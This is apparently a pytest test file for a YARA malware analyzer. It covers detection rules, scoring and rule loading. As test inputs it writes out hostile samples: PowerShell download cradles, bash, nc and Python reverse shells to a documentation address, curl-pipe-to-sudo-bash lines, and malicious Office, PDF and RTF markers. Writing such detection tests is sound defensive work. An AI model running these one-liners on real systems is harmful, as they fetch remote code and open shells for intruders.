"""What the analyzer ``yara`` makes of rules and of matches."""

from __future__ import annotations

from pathlib import Path

import jsonschema
import pytest
import yara_x

from workers import Analysis, Sample, Tag
from workers.analyzers.yara.analyzer import RULES_FOLDER, load_rules, yara

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture
def analyze(tmp_path: Path):
    def run(data: bytes) -> Analysis:
        path = tmp_path / "sample"
        path.write_bytes(data)
        analysis = yara(Sample(path=path, sha256="0" * 64, size=len(data)))
        jsonschema.validate(analysis.result, yara.schema)
        return analysis

    return run


def rules(analysis: Analysis) -> set[str]:
    return {match["rule"] for match in analysis.result["matches"]}


@pytest.mark.parametrize("tail", [b"", b"\r\n", b" " * 60])
def test_the_test_file_is_malicious_with_white_space_behind_it(analyze, tail: bytes):
    analysis = analyze(EICAR + tail)

    assert analysis.score == 100
    assert [(item.name, item.assessment) for item in analysis.detections] == [
        ("EICAR_Test_File", "malicious")
    ]
    assert Tag(type="yara", value="EICAR_Test_File") in analysis.tags
    assert Tag(type="family", value="EICAR-Test-File") in analysis.tags


def test_the_test_string_inside_other_content_is_no_test_file(analyze):
    analysis = analyze(b"Our scanner is tested with " + EICAR)

    assert rules(analysis) == {"EICAR_String_Inside"}
    assert analysis.score < 70


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        (
            "PowerShell_Download_Cradle",
            b"IEX (New-Object Net.WebClient).DownloadString('http://e.example/')",
        ),
        (
            "PowerShell_Download_Cradle",
            "Invoke-WebRequest http://e.example | iex".encode("utf-16-le"),
        ),
        ("PowerShell_Hidden_Encoded_Command", b"powershell -w hidden -c calc"),
        ("Unix_Reverse_Shell", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ("Unix_Reverse_Shell", b"nc 192.0.2.1 4444 -e /bin/sh"),
        (
            "Unix_Reverse_Shell",
            b"s=socket.socket();s.connect(a);os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
        ),
        (
            "Shell_Download_And_Run",
            b"#!/bin/sh\n"
            + b"# a licence\n" * 400
            + b"wget -qO- http://e.example|sh\n",
        ),
        ("Shell_Download_And_Run", b"curl -s https://e.example/i.sh | sudo bash"),
        (
            "Windows_Script_Downloader",
            b"MSXML2.XMLHTTP adodb.stream wscript.shell",
        ),
        (
            "Office_Zip_With_Macro_Project",
            b"PK\x03\x04 [Content_Types].xml word/vbaProject.bin",
        ),
        ("OLE_With_Macro_Code", b"\xd0\xcf\x11\xe0 \x00Attribut\x00e"),
        (
            "OLE_With_Macro_Auto_Exec_Name",
            b"\xd0\xcf\x11\xe0 _VBA_PROJECT Document_Open()",
        ),
        ("PDF_JavaScript_On_Open", b"%PDF-1.4 /OpenAction 3 0 R /S /JavaScript /JS ("),
        ("PDF_Launch_Action", b"%PDF-1.4 << /S /Launch >>"),
        ("PDF_Launch_Action", b"% a comment\n%PDF-1.4 << /S /Launch >>"),
        ("RTF_Embedded_Object", b"{\\rtf1 {\\object{\\*\\objdata 00}}}"),
        ("RTF_Equation_Editor_Object", b"{\\rtf1 \\objdata 4571756174696F6E2E33"),
        (
            "Program_Inside_Document",
            b"%PDF-1.4 This program cannot be run in DOS mode",
        ),
    ],
)
def test_each_rule_finds_what_it_is_for(analyze, rule: str, data: bytes):
    analysis = analyze(data)

    assert rule in rules(analysis)
    assert analysis.score > 0


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"just a text about PowerShell and Invoke-WebRequest",
        b"curl https://e.example/file -o file && sh --version",
        b"%PDF-1.4 << /Type /Catalog >>",
        b"a text about /S /Launch" + bytes(1024) + b"%PDF-",
        b"\x7fELF" + bytes(100),
        b"MZ" + bytes(200),
        b"To install it, run curl https://e.example/i.sh | sh\n"
        + b"It is good.\n" * 400,
        b"conn = socket.socket()\nos.dup2(conn.fileno(), 7)\n",
    ],
)
def test_honest_content_matches_nothing(analyze, data: bytes):
    analysis = analyze(data)

    assert analysis.score == -1
    assert analysis.result["matches"] == []


def test_the_score_is_that_of_the_strongest_rule(analyze):
    cradle = b"powershell -w hidden IEX (x.DownloadString('http://e.example/'))"

    analysis = analyze(cradle)

    assert len(rules(analysis)) == 2
    assert analysis.score == max(match["score"] for match in analysis.result["matches"])


def test_matches_say_where_and_are_bounded(analyze):
    analysis = analyze(b"{\\rtf1 " + b"\\objdata " * 1000)

    (match,) = analysis.result["matches"]
    assert match["patterns"][0]["offsets"][0] == 7
    assert len(match["patterns"][0]["offsets"]) <= 16


def test_every_bundled_rule_describes_itself():
    compiled, facts, _ = load_rules(RULES_FOLDER)

    for rule in compiled:
        given = dict(rule.metadata)
        assert {"description", "score", "assessment"} <= given.keys(), rule.identifier
    assert len(facts) >= 15


def test_the_version_changes_with_the_rules(tmp_path: Path):
    (tmp_path / "a.yar").write_text("rule a { condition: true }")
    before = load_rules(tmp_path)[2]
    (tmp_path / "b.yar").write_text("rule b { condition: true }")

    assert load_rules(tmp_path)[2] != before
    assert yara.version.startswith("2-")


def test_a_rule_of_others_needs_no_meta(tmp_path: Path):
    (tmp_path / "mine.yar").write_text("rule mine { condition: true }")

    facts = load_rules(tmp_path)[1]

    assert facts["mine"].assessment == "unknown"
    assert 0 < facts["mine"].score < 70


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("rule broken { condition: $a }", "broken.yar: correct the rule"),
        ('rule r { meta: score = "high" condition: true }', "score must be a whole"),
        ("rule r { meta: score = 101 condition: true }", "score must be a whole"),
        (
            'rule r { meta: assessment = "bad" condition: true }',
            "assessment must be one of",
        ),
        ("rule r { meta: family = 3 condition: true }", "must be text"),
    ],
)
def test_an_unusable_rule_names_its_file_and_the_remedy(
    tmp_path: Path, source: str, words: str
):
    (tmp_path / "broken.yar").write_text(source)

    with pytest.raises(ValueError, match=words):
        load_rules(tmp_path)


def test_two_rules_of_one_name_are_refused(tmp_path: Path):
    for name in ("a", "b"):
        (tmp_path / f"{name}.yar").write_text("rule same { condition: true }")

    with pytest.raises(ValueError, match="rename it"):
        load_rules(tmp_path)


def test_no_rule_source_is_taken_for_the_test_file():
    compiled = load_rules(RULES_FOLDER)[0]

    for path in RULES_FOLDER.glob("*.yar"):
        found = yara_x.Scanner(compiled).scan(path.read_bytes()).matching_rules
        assert not any(rule.identifier.startswith("EICAR") for rule in found)
